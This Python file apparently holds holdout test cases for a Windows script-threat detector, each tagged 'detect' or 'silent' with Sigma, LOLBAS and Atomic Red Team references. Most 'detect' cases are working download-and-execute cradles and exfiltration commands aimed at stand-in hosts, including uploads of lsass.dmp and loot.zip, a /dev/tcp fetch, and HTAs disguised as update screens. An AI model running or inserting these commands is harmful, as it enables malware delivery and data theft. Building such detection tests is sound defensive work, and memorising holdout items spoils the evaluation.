"""batch, powershell, wsh-vbs, wsh-js, wsf and hta cases for holdout7."""
from common import C, ps_enc

W = "/opt/win/h7"

# ---------------------------------------------------------------- batch: detect
C("h7-bat-lolbas-ldifde-import-01", "LOLBAS Ldifde (Download): Ldifde -i -f file.ldf (ldf pulls remote content)", "batch",
  W + "/deploy/ad-schema-import.cmd", "detect", r'''
@echo off
rem import schema extension that references the remote attribute blob
copy /y \\198.51.100.40\ldf$\ext.ldf %TEMP%\ext.ldf
Ldifde -i -f %TEMP%\ext.ldf -s localhost -k
''')

C("h7-bat-lolbas-xwizard-z-url-01", "LOLBAS Xwizard (Download): RunWizard {7940acf8...} /z<url>", "batch",
  W + "/tools/wizard-refresh.bat", "detect", r'''
@echo off
C:\Windows\System32\xwizard.exe RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /zhttps://cdn.example.net/wiz/payload.bin
''')

C("h7-bat-lolbas-visio-remote-01", "LOLBAS Visio (Download): Visio.exe {REMOTEURL}", "batch",
  W + "/office/open-diagram.cmd", "detect", r'''
@echo off
start "" "C:\Program Files\Microsoft Office\root\Office16\VISIO.EXE" http://203.0.113.45/diagrams/net-map.vsdx
''')

C("h7-bat-lolbas-msaccess-remote-01", "LOLBAS Msaccess (Download): MSAccess.exe {REMOTEURL}", "batch",
  W + "/office/launch-db.bat", "detect", r'''
@echo off
set DBURL=https://files.example.org/share/inventory.accdb
"%ProgramFiles%\Microsoft Office\root\Office16\MSACCESS.EXE" %DBURL%
''')

C("h7-bat-lolbas-excel-remote-01", "LOLBAS Excel (Download): Excel.exe {REMOTEURL}", "batch",
  W + "/office/open-report.cmd", "detect", r'''
@echo off
"C:\Program Files (x86)\Microsoft Office\Office16\EXCEL.EXE" "http://198.51.100.19/reports/q4.xlsm"
''')

C("h7-bat-lolbas-findstr-unc-download-01", "LOLBAS Findstr (Download): findstr /V /L <string> \\\\share\\file.exe > local.exe", "batch",
  W + "/scripts/pull-helper.bat", "detect", r'''
@echo off
findstr /V /L W3AllLov3LolBas \\fs01.corp.example\tools$\helper.exe > C:\Users\Public\helper.exe
C:\Users\Public\helper.exe
''')

C("h7-bat-lolbas-ftp-echo-script-01", "LOLBAS Ftp (Download): echo commands to ftp.txt, ftp -s:ftp.txt", "batch",
  W + "/scripts/ftp-stage.cmd", "detect", r'''
@echo off
cmd.exe /c "@echo open 203.0.113.21 21>%TEMP%\f.txt&@echo USER anonymous>>%TEMP%\f.txt&@echo PASS x@example.com>>%TEMP%\f.txt&@echo binary>>%TEMP%\f.txt&@echo GET /pub/svc.exe>>%TEMP%\f.txt&@echo quit>>%TEMP%\f.txt&@ftp -s:%TEMP%\f.txt -v"
''')

C("h7-bat-lolbas-hh-remote-bat-01", "LOLBAS Hh (Download): HH.exe {REMOTEURL:.bat}", "batch",
  W + "/help/open-kb.cmd", "detect", r'''
@echo off
HH.exe http://kb.example.com/articles/fix-printer.bat
''')

C("h7-bat-lolbas-datasvcutil-uri-01", "LOLBAS DataSvcUtil (Upload): /out: /uri:", "batch",
  W + "/dev/gen-odata-proxy.bat", "detect", r'''
@echo off
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\DataSvcUtil.exe /out:C:\ProgramData\odata.cs /uri:https://odata.example.net/svc?d=%COMPUTERNAME%
''')

C("h7-bat-lolbas-esentutl-unc-copy-01", "LOLBAS Esentutl (Copy from UNC): esentutl.exe /y \\\\host\\share\\file /d dest /o", "batch",
  W + "/scripts/esent-copy.cmd", "detect", r'''
@echo off
esentutl.exe /y \\203.0.113.88\pub\loader.vbs /d C:\ProgramData\loader.vbs /o
wscript C:\ProgramData\loader.vbs
''')

C("h7-bat-lolbas-extrac32-unc-01", "LOLBAS Extrac32 (Download from UNC): extrac32 /Y /C \\\\host\\file dest", "batch",
  W + "/scripts/extract-remote.bat", "detect", r'''
@echo off
extrac32 /Y /C \\files.corp.example\drop\tool.exe C:\Windows\Temp\tool.exe
''')

C("h7-bat-lolbas-expand-unc-01", "LOLBAS Expand (Download from UNC): expand \\\\host\\file dest", "batch",
  W + "/scripts/expand-remote.cmd", "detect", r'''
@echo off
expand \\198.51.100.91\share\update.cab -F:* C:\ProgramData\upd\
''')

C("h7-bat-lolbas-diantz-unc-cab-01", "LOLBAS Diantz (Download): diantz.exe \\\\share\\file.exe local.cab", "batch",
  W + "/scripts/diantz-pack.bat", "detect", r'''
@echo off
diantz.exe \\192.0.2.77\c$\Tools\dump.exe C:\Users\Public\dump.cab
''')

C("h7-bat-lolbas-configsecuritypolicy-upload-01", "LOLBAS ConfigSecurityPolicy (Upload): file + remote URL", "batch",
  W + "/scripts/cfgsec-upload.cmd", "detect", r'''
@echo off
"C:\Program Files\Windows Defender\ConfigSecurityPolicy.exe" C:\Users\Public\loot.zip https://upload.example.com/recv
''')

C("h7-bat-lolbas-certoc-getcacaps-01", "LOLBAS Certoc (Download): certoc.exe -GetCACAPS {REMOTEURL:.ps1}", "batch",
  W + "/pki/check-ca.bat", "detect", r'''
@echo off
certoc.exe -GetCACAPS http://ca.example.net/scripts/caps.ps1
''')

C("h7-bat-art-gup-notepadpp-01", "ART T1105 Arbitrary file download using the Notepad++ GUP.exe binary", "batch",
  W + "/npp/updater-test.cmd", "detect", r'''
@echo off
cd /d "C:\Program Files\Notepad++\updater"
GUP.exe -unzipTo "" C:\Users\Public\ "npp_test http://203.0.113.150/files/calc.zip 5d2d0ea6c50a8f14b2e2e2a7b7c8a4f1"
''')

C("h7-bat-art-sqlcmd-download-01", "ART T1105 File Download with Sqlcmd.exe (-i remote script -o out)", "batch",
  W + "/sql/fetch-script.cmd", "detect", r'''
@echo off
sqlcmd -i https://raw.example.com/sql/setup.sql -o C:\Users\Public\Downloads\setup_out.txt
''')

C("h7-bat-art-nimgrab-01", "ART T1105 Nimgrab - Transfer Files", "batch",
  W + "/tools/nimgrab-run.bat", "detect", r'''
@echo off
"%~dp0nimgrab.exe" https://files.example.com/payloads/agent.exe %TEMP%\agent.exe
''')

C("h7-bat-caret-cmd-v-bitsadmin-01", "Sigma obfuscation: caret-escaped bitsadmin with /priority foreground", "batch",
  W + "/scripts/b-job.cmd", "detect", r'''
@echo off
set "u=http://198.51.100.111/pkg/update.msi"
b^itsad^min /transfer "WinUpd" /priority foreground %u% "%ProgramData%\update.msi"
msiexec /q /i "%ProgramData%\update.msi"
''')

C("h7-bat-certutil-split-flag-01", "Sigma certutil download (-split -f -urlcache) with full path", "batch",
  W + "/scripts/cu-split.bat", "detect", r'''
@echo off
C:\Windows\System32\certutil.exe -split -f -urlcache http://203.0.113.66/lib/x.dll C:\Windows\Tasks\x.dll
rundll32 C:\Windows\Tasks\x.dll,Start
''')

C("h7-bat-curl-exe-insecure-proxy-01", "Sigma curl.exe --proxy-insecure download", "batch",
  W + "/scripts/curl-proxy.cmd", "detect", r'''
@echo off
C:\Windows\System32\curl.exe --proxy https://proxy.example.net:8443 --proxy-insecure -o %APPDATA%\svc.exe https://files.example.org/svc.exe
''')

C("h7-bat-msiexec-remote-msi-01", "author / LOLBAS Msiexec: msiexec /i <remote URL>", "batch",
  W + "/scripts/install-remote-msi.cmd", "detect", r'''
@echo off
msiexec.exe /q /i https://packages.example.com/agent/agent-x64.msi TRANSFORMS=corp.mst
''')

C("h7-bat-robocopy-unc-pull-01", "author: xcopy from an admin share, then run (ART lateral staging)", "batch",
  W + "/scripts/stage-from-share.cmd", "detect", r'''
@echo off
net use Z: \\198.51.100.8\c$ /user:corp\svc_stage P@ssw0rd1
xcopy /y /q Z:\Staging\beacon.exe C:\ProgramData\Microsoft\beacon.exe
start "" C:\ProgramData\Microsoft\beacon.exe
''')

# ---------------------------------------------------------------- batch: silent
C("h7-bat-silent-help-text-01", "silent: echo of a help text mentioning bitsadmin", "batch",
  W + "/scripts/help.cmd", "silent", r'''
@echo off
echo This tool no longer uses bitsadmin or certutil.
echo To update, download the new MSI from the intranet portal manually.
pause
''')

C("h7-bat-silent-local-copy-01", "silent: copy/xcopy between local folders", "batch",
  W + "/scripts/backup-local.bat", "silent", r'''
@echo off
xcopy /e /i /y "C:\App\config" "D:\Backup\config"
copy /y "C:\App\logs\*.log" "D:\Backup\logs\"
''')

C("h7-bat-silent-rem-comments-01", "silent: REM comments with certutil -hashfile (local)", "batch",
  W + "/scripts/hash-check.cmd", "silent", r'''
@echo off
rem certutil -urlcache is blocked by policy; we only hash local files here
certutil -hashfile C:\App\bin\app.exe SHA256
''')

C("h7-bat-silent-localhost-curl-01", "silent: batch retry loop waiting for a local Elasticsearch", "batch",
  W + "/scripts/health.cmd", "silent", r'''
@echo off
setlocal
set /a tries=0
:again
curl.exe --silent --fail "http://127.0.0.1:9200/_cluster/health?wait_for_status=yellow&timeout=5s" >NUL && goto ok
set /a tries+=1
if %tries% GEQ 20 exit /b 1
timeout /t 3 /nobreak >NUL
goto again
:ok
echo search node is up
''')

C("h7-bat-silent-winget-list-01", "silent: winget list / upgrade --all (package manager)", "batch",
  W + "/scripts/pkg-report.bat", "silent", r'''
@echo off
winget list > C:\Reports\installed.txt
winget upgrade --all --silent --accept-source-agreements
''')

# ---------------------------------------------------------------- powershell: detect
C("h7-ps-art-uploadfile-webclient-01", "Sigma PowerShell script with upload capabilities (WebClient.UploadFile)", "powershell",
  W + "/ps/send-dump.ps1", "detect", r'''
$wc = New-Object System.Net.WebClient
$wc.UploadFile("http://198.51.100.77/upload.php", "POST", "$env:TEMP\lsass.dmp")
''')

C("h7-ps-uploadstring-exfil-01", "Sigma upload capabilities (WebClient.UploadString)", "powershell",
  W + "/ps/post-inventory.ps1", "detect", r'''
$inv = Get-CimInstance Win32_OperatingSystem | ConvertTo-Json
(New-Object Net.WebClient).UploadString('https://collect.example.org/inv', $inv)
''')

C("h7-ps-irm-method-post-infile-01", "Sigma Data Exfiltration via CLI (irm -Uri -Method POST -InFile)", "powershell",
  W + "/ps/irm-post.ps1", "detect", r'''
Invoke-RestMethod -Uri "https://exfil.example.net/api/files" -Method POST -InFile "C:\Users\Public\docs.zip" -ContentType "application/zip"
''')

C("h7-ps-iwr-dll-outfile-01", "Sigma Potential DLL File Download Via PowerShell Invoke-WebRequest", "powershell",
  W + "/ps/get-plugin.ps1", "detect", r'''
$dst = Join-Path $env:LOCALAPPDATA 'Plugins\ext.dll'
IWR http://203.0.113.51/ext.dll -OutFile $dst
[Reflection.Assembly]::LoadFile($dst) | Out-Null
''')

C("h7-ps-nslookup-txt-cradle-01", "Sigma Nslookup PowerShell Download Cradle (-q=txt)", "powershell",
  W + "/ps/dns-stage.ps1", "detect", r'''
$r = (nslookup -q=txt stage.dns.example 2>$null | Select-String '"' ) -replace '.*"(.*)".*','$1'
$bytes = [Convert]::FromBase64String(($r -join ''))
iex ([Text.Encoding]::UTF8.GetString($bytes))
''')

C("h7-ps-httpclient-getstringasync-iex-01", "capa/Sigma: System.Net.Http.HttpClient GetStringAsync | iex", "powershell",
  W + "/ps/httpclient-cradle.ps1", "detect", r'''
Add-Type -AssemblyName System.Net.Http
$c = [System.Net.Http.HttpClient]::new()
$s = $c.GetStringAsync('https://scripts.example.com/init.ps1').Result
Invoke-Expression $s
''')

C("h7-ps-webclient-openread-streamreader-01", "author: WebClient.OpenRead + StreamReader then IEX", "powershell",
  W + "/ps/openread.ps1", "detect", r'''
$st = (New-Object Net.WebClient).OpenRead("http://198.51.100.30/a.ps1")
$sr = New-Object IO.StreamReader($st)
$code = $sr.ReadToEnd(); $sr.Close()
& ([scriptblock]::Create($code))
''')

C("h7-ps-encodedcommand-iwr-01", "Sigma powershell -EncodedCommand carrying an IWR download", "powershell",
  W + "/ps/launcher-enc.ps1", "detect",
  "Start-Process powershell.exe -WindowStyle Hidden -ArgumentList '-NoP','-NonI','-EncodedCommand','" +
  ps_enc("Invoke-WebRequest -Uri http://203.0.113.222/m.exe -OutFile $env:PUBLIC\\m.exe; Start-Process $env:PUBLIC\\m.exe") + "'\n")

C("h7-ps-webclient-casing-01", "Sigma PowerShell WebClient casing obfuscation", "powershell",
  W + "/ps/casing.ps1", "detect", r'''
iEx (nEw-oBjEcT sYsTeM.nEt.WeBcLiEnT).dOwNlOaDsTrInG('http://192.0.2.44/x.ps1')
''')

C("h7-ps-bitstransfer-asynchronous-01", "Sigma Start-BitsTransfer -Asynchronous", "powershell",
  W + "/ps/bits-async.ps1", "detect", r'''
Import-Module BitsTransfer
$job = Start-BitsTransfer -Source 'https://dl.example.net/pkg/agent.zip' -Destination "$env:ProgramData\agent.zip" -Asynchronous
while ($job.JobState -eq 'Transferring') { Start-Sleep 2 }
Complete-BitsTransfer -BitsJob $job
''')

C("h7-ps-tls12-iwr-usebasic-alias-01", "author: curl alias in Windows PowerShell 5 with -OutFile", "powershell",
  W + "/ps/curl-alias.ps1", "detect", r'''
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
curl -Uri https://dl.example.org/tools/procdump.zip -OutFile C:\Tools\procdump.zip -UseBasicParsing
Expand-Archive C:\Tools\procdump.zip C:\Tools\procdump -Force
''')

C("h7-ps-format-operator-url-01", "Sigma obfuscated download cradle (-f format operator)", "powershell",
  W + "/ps/fmt.ps1", "detect", r'''
$u = '{0}://{1}/{2}' -f 'http','203.0.113.19','s.ps1'
$w = New-Object ('{0}.{1}.{2}' -f 'System','Net','WebClient')
IEX $w.DownloadString($u)
''')

C("h7-ps-copyitem-unc-then-run-01", "author: Copy-Item from a UNC path then Start-Process", "powershell",
  W + "/ps/copy-unc.ps1", "detect", r'''
Copy-Item -Path '\\198.51.100.60\deploy$\svc-agent.exe' -Destination 'C:\ProgramData\svc-agent.exe' -Force
Start-Process 'C:\ProgramData\svc-agent.exe' -ArgumentList '/silent'
''')

C("h7-ps-msxml2-serverxmlhttp-01", "Sigma COM download cradle (Msxml2.ServerXmlHttp.6.0, ignore cert errors, WriteAllBytes)", "powershell",
  W + "/ps/serverxmlhttp.ps1", "detect", r'''
$x = New-Object -ComObject 'Msxml2.ServerXmlHttp.6.0'
$x.setOption(2, 13056)
$x.open('GET', 'https://192.0.2.201/bin/loader.exe', $false)
$x.send()
[IO.File]::WriteAllBytes("$env:ProgramData\loader.exe", [byte[]]$x.responseBody)
& "$env:ProgramData\loader.exe"
''')

C("h7-ps-internetexplorer-com-01", "Sigma COM download cradle (InternetExplorer.Application via GetTypeFromProgID + Navigate2)", "powershell",
  W + "/ps/ie-com.ps1", "detect", r'''
$t = [Type]::GetTypeFromProgID('InternetExplorer.Application')
$browser = [Activator]::CreateInstance($t)
$browser.Silent = $true
$browser.Navigate2('http://198.51.100.15/p.ps1')
do { Start-Sleep -Seconds 1 } until ($browser.ReadyState -eq 4)
$payload = $browser.Document.documentElement.innerText
$browser.Quit()
Invoke-Expression $payload
''')

C("h7-ps-wsl-dev-tcp-01", "LOLBAS Wsl (Download) launched from PowerShell", "powershell",
  W + "/ps/wsl-fetch.ps1", "detect", r'''
wsl.exe --exec bash -c 'cat < /dev/tcp/203.0.113.12/8000 > /mnt/c/ProgramData/b.exe'
''')

C("h7-ps-pwsh-scoop-irm-iex-variable-01", "author: URL in a variable, irm $u | iex", "powershell",
  W + "/ps/bootstrap-tools.ps1", "detect", r'''
param([string]$Channel = 'stable')
$u = "https://get.tools.example/$Channel/bootstrap.ps1"
irm $u | iex
''')

C("h7-ps-ftp-webrequest-upload-01", "Sigma upload capabilities: FtpWebRequest UploadFile (request stream)", "powershell",
  W + "/ps/ftp-put.ps1", "detect", r'''
$target = 'ftp://203.0.113.58/incoming/' + $env:COMPUTERNAME + '.zip'
$ftp = [System.Net.WebRequest]::Create($target)
$ftp.Method = 'STOR'
$ftp.Credentials = [System.Net.NetworkCredential]::new('drop', 'drop2026')
$bytes = [System.IO.File]::ReadAllBytes('C:\Users\Public\collected.zip')
$rs = $ftp.GetRequestStream(); $rs.Write($bytes, 0, $bytes.Length); $rs.Dispose()
$ftp.GetResponse().StatusDescription
''')

# ---------------------------------------------------------------- powershell: silent
C("h7-ps-silent-localhost-iwr-01", "silent: Invoke-RestMethod against a local service on [::1]", "powershell",
  W + "/ps/health.ps1", "silent", r'''
$status = Invoke-RestMethod -Uri 'http://[::1]:9090/api/v1/status/runtimeinfo' -TimeoutSec 3
if ($status.status -ne 'success') {
    Write-Error "local prometheus not ready"
    exit 2
}
''')

C("h7-ps-silent-comment-help-01", "silent: comment-based help mentioning DownloadString", "powershell",
  W + "/ps/Get-Config.ps1", "silent", r'''
<#
.SYNOPSIS
  Reads the local config. Unlike the old version it does NOT call
  (New-Object Net.WebClient).DownloadString(...) anymore.
#>
function Get-Config { Get-Content -Raw C:\App\config.json | ConvertFrom-Json }
''')

C("h7-ps-silent-install-module-gallery-01", "silent: Install-PSResource from the default PSGallery", "powershell",
  W + "/ps/setup-modules.ps1", "silent", r'''
foreach ($m in 'Az.Accounts', 'Az.Storage', 'PSScriptAnalyzer') {
    if (-not (Get-Module -ListAvailable -Name $m)) {
        Install-PSResource -Name $m -Repository PSGallery -TrustRepository -Scope AllUsers
    }
}
''')

C("h7-ps-silent-copy-local-01", "silent: Copy-Item between local paths", "powershell",
  W + "/ps/copy-local.ps1", "silent", r'''
Copy-Item -Path C:\App\templates\* -Destination C:\inetpub\wwwroot\templates -Recurse -Force
''')

C("h7-ps-silent-write-host-instructions-01", "silent: Write-Host of manual download instructions", "powershell",
  W + "/ps/hint.ps1", "silent", r'''
Write-Host "Driver package missing."
Write-Host "Download it manually with: Start-BitsTransfer -Source <url> -Destination C:\Drivers"
''')

# ---------------------------------------------------------------- wsh-vbs
C("h7-vbs-winhttp-adodb-01", "author: VBScript function using WinHttp.WinHttpRequest.5.1 (ignore cert errors) + ADODB.Stream", "wsh-vbs",
  W + "/wsh/winhttp-get.vbs", "detect", r'''
Option Explicit
Function Grab(url, dest)
    Dim req, bin
    Set req = CreateObject("WinHttp.WinHttpRequest.5.1")
    req.Option(4) = 13056
    req.SetTimeouts 5000, 5000, 10000, 30000
    req.Open "GET", url, False
    req.SetRequestHeader "User-Agent", "Mozilla/5.0"
    req.Send
    If req.Status = 200 Then
        Set bin = CreateObject("ADODB.Stream")
        bin.Type = 1
        bin.Open
        bin.Write req.ResponseBody
        bin.SaveToFile dest, 2
        bin.Close
    End If
End Function
Grab "https://203.0.113.140/a/u1.dll", "C:\ProgramData\u1.dll"
Grab "https://203.0.113.140/a/u2.dll", "C:\ProgramData\u2.dll"
''')

C("h7-vbs-shell-run-certutil-01", "author: VBScript builds the URL by concatenation, runs certutil -URLCache and cleans the cache", "wsh-vbs",
  W + "/wsh/cu-run.vbs", "detect", r'''
Dim w, srv, tgt
Set w = WScript.CreateObject("WScript.Shell")
srv = "http://" & "198.51.100.202" & ":8080"
tgt = w.ExpandEnvironmentStrings("%LOCALAPPDATA%") & "\Temp\k.dat"
w.Run "certutil.exe -URLCache -f " & srv & "/k.dat """ & tgt & """", 0, True
w.Run "certutil.exe -urlcache * delete", 0, True
''')

C("h7-vbs-shell-exec-powershell-iwr-01", "author: VBScript Shell.Application ShellExecute powershell irm | iex, hidden", "wsh-vbs",
  W + "/wsh/ps-launch.vbs", "detect", r'''
Set app = CreateObject("Shell.Application")
args = "-NoLogo -ExecutionPolicy Bypass -Command ""irm 'http://192.0.2.88/s.ps1' | iex"""
app.ShellExecute "powershell.exe", args, "", "open", 0
''')

C("h7-vbs-filesystemobject-unc-copy-01", "author: FileSystemObject CopyFile from UNC", "wsh-vbs",
  W + "/wsh/unc-copy.vbs", "detect", r'''
Set fs = CreateObject("Scripting.FileSystemObject")
fs.CopyFile "\\203.0.113.30\pub\tool.exe", "C:\ProgramData\tool.exe", True
''')

C("h7-vbs-silent-msgbox-01", "silent: VBScript that only shows a message and reads a local file", "wsh-vbs",
  W + "/wsh/show-version.vbs", "silent", r'''
Set fs = CreateObject("Scripting.FileSystemObject")
Set f = fs.OpenTextFile("C:\App\VERSION", 1)
MsgBox "Installed version: " & f.ReadLine & vbCrLf & "Updates are downloaded by the admin team."
f.Close
''')

# ---------------------------------------------------------------- wsh-js
C("h7-wshjs-serverxmlhttp-stream-01", "author: JScript loop over URLs with MSXML2.ServerXMLHTTP.6.0 + ADODB.Stream (try/catch)", "wsh-js",
  W + "/wsh/sxh.js", "detect", r'''
var parts = ["core.dll", "plug.dll"];
for (var i = 0; i < parts.length; i++) {
  try {
    var req = WScript.CreateObject("MSXML2.ServerXMLHTTP.6.0");
    req.open("GET", "https://files.example.net/p/" + parts[i], false);
    req.send();
    var bs = WScript.CreateObject("ADODB.Stream");
    bs.Type = 1; bs.Open(); bs.Write(req.responseBody); bs.Position = 0;
    bs.SaveToFile("C:\\ProgramData\\Pkg\\" + parts[i], 2); bs.Close();
  } catch (e) { WScript.Sleep(1000); }
}
''')

C("h7-wshjs-shell-run-bitsadmin-01", "author: JScript bitsadmin /create /addfile /resume /complete sequence", "wsh-js",
  W + "/wsh/bits.js", "detect", r'''
var sh = new ActiveXObject("WScript.Shell");
var steps = [
  "bitsadmin /create upd7",
  "bitsadmin /addfile upd7 http://198.51.100.44/x.exe C:\\Users\\Public\\x.exe",
  "bitsadmin /resume upd7",
  "bitsadmin /complete upd7"
];
for (var i = 0; i < steps.length; i++) { sh.Run(steps[i], 0, true); }
''')

C("h7-wshjs-eval-xmlhttp-01", "author: JScript WinHttpRequest GET then new Function(body)() (cradle)", "wsh-js",
  W + "/wsh/eval-cradle.js", "detect", r'''
function pull(u) {
  var w = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
  w.Open("GET", u, false);
  w.Send();
  return w.Status == 200 ? w.ResponseText : "";
}
var body = pull("http://203.0.113.177/stage.js");
if (body) { (new Function(body))(); }
''')

C("h7-wshjs-silent-local-01", "silent: JScript reading a local INI and echoing it", "wsh-js",
  W + "/wsh/read-ini.js", "silent", r'''
var fso = new ActiveXObject("Scripting.FileSystemObject");
var f = fso.OpenTextFile("C:\\App\\app.ini", 1);
WScript.Echo(f.ReadAll());
f.Close();
''')

# ---------------------------------------------------------------- wsf
C("h7-wsf-vbscript-xmlhttp-01", "author: .wsf job with VBScript XMLHTTP + ADODB.Stream", "wsf",
  W + "/wsh/update.wsf", "detect", r'''
<job id="upd">
  <script language="VBScript">
    Set x = CreateObject("MSXML2.XMLHTTP")
    x.Open "GET", "http://192.0.2.160/upd.exe", False
    x.Send
    Set st = CreateObject("ADODB.Stream")
    st.Open: st.Type = 1: st.Write x.ResponseBody
    st.SaveToFile "C:\Windows\Temp\upd.exe", 2
  </script>
</job>
''')

C("h7-wsf-jscript-shell-curl-01", "author: .wsf with JScript running curl.exe", "wsf",
  W + "/wsh/curl-job.wsf", "detect", r'''
<package>
<job id="main">
<script language="JScript">
  var sh = new ActiveXObject("WScript.Shell");
  sh.Run("curl.exe -s -o %TEMP%\\c.exe http://203.0.113.14/c.exe && %TEMP%\\c.exe", 0, false);
</script>
</job>
</package>
''')

C("h7-wsf-silent-echo-01", "silent: .wsf that echoes the date", "wsf",
  W + "/wsh/date.wsf", "silent", r'''
<job id="d">
  <script language="JScript">
    WScript.Echo("Today: " + new Date().toDateString());
  </script>
</job>
''')

# ---------------------------------------------------------------- hta
C("h7-hta-vbscript-powershell-cradle-01", "author: HTA running powershell -EncodedCommand (Start-BitsTransfer + run)", "hta",
  W + "/hta/update-notice.hta", "detect",
  '<html><head><title>Updating</title>\n<HTA:APPLICATION ID="upd" CAPTION="no" SHOWINTASKBAR="no" WINDOWSTATE="minimize"/>\n<script language="VBScript">\nSub Window_OnLoad\n  CreateObject("WScript.Shell").Run "powershell.exe -NoP -W Hidden -EncodedCommand ' + ps_enc("Start-BitsTransfer -Source 'http://198.51.100.99/u.exe' -Destination $env:TEMP\\u.exe; & $env:TEMP\\u.exe") + '", 0, False\n  window.close\nEnd Sub\n</script></head><body>Please wait...</body></html>\n')

C("h7-hta-jscript-xmlhttp-save-01", "author: HTA JScript Shell.Application ShellExecute bitsadmin /transfer", "hta",
  W + "/hta/viewer.hta", "detect", r'''
<html><head><title>Viewer setup</title>
<HTA:APPLICATION ID="vs" SHOWINTASKBAR="no"/>
<script language="JScript">
  var app = new ActiveXObject("Shell.Application");
  app.ShellExecute("bitsadmin.exe", "/transfer viewer /download https://cdn.example.org/v/viewer.exe C:\\Users\\Public\\viewer.exe", "", "open", 0);
  setTimeout(function () { window.close(); }, 15000);
</script></head><body>Installing the viewer...</body></html>
''')

C("h7-hta-silent-form-01", "silent: HTA that shows the local computer name and OS version", "hta",
  W + "/hta/about.hta", "silent", r'''
<html>
<head><title>System details</title>
<HTA:APPLICATION APPLICATIONNAME="sysdetails" BORDER="thin" SCROLL="no"/>
<script language="VBScript">
Sub Window_OnLoad
  Set net = CreateObject("WScript.Network")
  Set sh = CreateObject("WScript.Shell")
  info.innerText = net.ComputerName & " / " & sh.RegRead("HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProductName")
End Sub
</script></head>
<body><div id="info"></div></body>
</html>
''')

